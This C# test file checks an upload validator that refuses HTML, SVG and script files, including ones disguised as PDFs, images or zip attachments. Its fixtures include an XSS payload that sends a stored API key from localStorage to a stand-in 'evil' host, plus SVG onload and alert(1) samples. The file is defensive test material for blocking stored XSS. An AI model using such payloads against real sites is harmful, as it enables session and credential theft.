using System.IO.Compression;
using System.Text;
using Workflows.Functions.Documents;
using Workflows.Functions.MarketEntities;

namespace Workflows.Functions.Tests.Documents;

/// <summary>
/// Blocks stored XSS through uploads: an implementation report or package attachment that is HTML, SVG or script is
/// refused whether it says so (its name or stated type) or hides it (a .pdf name over HTML bytes).
/// </summary>
public sealed class DocumentTypesTests
{
    private static readonly byte[] Html =
        Encoding.UTF8.GetBytes("<html><script>fetch('//evil/?k='+localStorage['workflows.apiKey'])</script></html>");
    private static readonly byte[] Svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    private static readonly byte[] Pdf = Encoding.UTF8.GetBytes("%PDF-1.7\n1 0 obj << >> endobj\n%%EOF");
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D];

    public static TheoryData<string, string?, byte[], string> Attacks => new()
    {
        { "report.html", "text/html", Html, DocumentTypes.TypeRule },
        { "report.htm", null, Html, DocumentTypes.TypeRule },
        { "report.svg", "image/svg+xml", Svg, DocumentTypes.TypeRule },
        { "report.js", "text/javascript", Encoding.UTF8.GetBytes("alert(1)"), DocumentTypes.TypeRule },
        { "report.xhtml", "application/xhtml+xml", Html, DocumentTypes.TypeRule },
        { "report", "application/pdf", Pdf, DocumentTypes.TypeRule },
        { "report.pdf", "text/html", Pdf, DocumentTypes.StatedTypeRule },
        { "report.pdf", "image/svg+xml; charset=utf-8", Pdf, DocumentTypes.StatedTypeRule },
        { "report.pdf", "application/pdf", Html, DocumentTypes.ContentRule },
        { "report.pdf", null, Svg, DocumentTypes.ContentRule },
        { "scan.png", "image/png", Svg, DocumentTypes.ContentRule },
        { "report.docx", null, Zip(("index.html", Html)), DocumentTypes.ContentRule },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Check_HtmlSvgOrScript_RefusedNamingFieldAndRule(string name, string? statedType, byte[] data, string rule)
    {
        var check = DocumentTypes.Check("file", name, statedType, data);

        Assert.Null(check.Type);
        Assert.Equal(("file", rule), (check.Error?.Field, check.Error?.Rule));
    }

    public static TheoryData<string, string?, byte[], string> Documents => new()
    {
        { "实施情况报告.pdf", "application/pdf", Pdf, "application/pdf" },
        { "report.PDF", "application/octet-stream", Pdf, "application/pdf" },
        { "scan.png", null, Png, "image/png" },
        { "photo.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10], "image/jpeg" },
        { "report.docx", null, Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", "<w:document/>"u8.ToArray())),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "report.doc", "application/msword", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0], "application/x-ole-storage" },
        { "电子公文.ofd", null, Zip(("OFD.xml", "<ofd:OFD/>"u8.ToArray())), "application/ofd" },
    };

    [Theory]
    [MemberData(nameof(Documents))]
    public void Check_DeclaredDocument_AcceptedWithCanonicalType(string name, string? statedType, byte[] data, string storedType)
    {
        var check = DocumentTypes.Check("file", name, statedType, data);

        Assert.Null(check.Error);
        Assert.Equal(storedType, check.Type?.ContentType);
    }

    [Theory]
    [InlineData("text/html", "application/octet-stream")]
    [InlineData("image/svg+xml", "application/octet-stream")]
    [InlineData("application/pdf", "application/pdf")]
    [InlineData("image/png", "image/png")]
    public void ServedContentType_StoredBeforeChecking_NeverHtmlOrSvg(string stored, string served) =>
        Assert.Equal(served, DocumentTypes.ServedContentType(stored));

    /// <summary>Blocks: a registration package carrying an HTML or SVG "attachment" next to a real PDF.</summary>
    [Fact]
    public void RegistrationPackage_HtmlAndSvgAttachments_RefusedEach()
    {
        var zip = Zip(("application.json", "{}"u8.ToArray()), ("章程.pdf", Pdf), ("说明.html", Html), ("logo.svg", Svg), ("lease.pdf", Html));

        var (package, errors) = RegistrationPackageReader.Read("p.zip", zip, new Workflows.Functions.Hosting.LimitsOptions());

        Assert.Null(package);
        Assert.Equal(
            [
                ("package/说明.html", DocumentTypes.TypeRule),
                ("package/logo.svg", DocumentTypes.TypeRule),
                ("package/lease.pdf", DocumentTypes.ContentRule),
            ],
            errors.Select(e => (e.Field, e.Rule)));
    }

    [Fact]
    public void RegistrationPackage_PdfAttachment_StoredAsPdfWhateverTheZipSays()
    {
        var zip = Zip(("application.json", "{}"u8.ToArray()), ("docs/章程.pdf", Pdf));

        var (package, errors) = RegistrationPackageReader.Read("p.zip", zip, new Workflows.Functions.Hosting.LimitsOptions());

        Assert.Empty(errors);
        Assert.Equal(("docs_章程.pdf", "application/pdf"), (package!.Attachments[0].Name, package.Attachments[0].ContentType));
    }

    private static byte[] Zip(params (string Name, byte[] Data)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, data) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(data);
            }
        }

        return buffer.ToArray();
    }
}
